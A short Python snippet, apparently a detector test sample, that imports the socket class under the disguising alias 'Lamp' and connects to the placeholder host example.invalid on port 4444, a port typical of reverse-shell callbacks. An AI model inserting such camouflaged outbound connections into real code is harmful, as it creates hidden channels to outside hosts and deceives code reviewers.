# why: only the class is imported
from socket import socket as Lamp
Lamp().connect(("example.invalid", 4444))
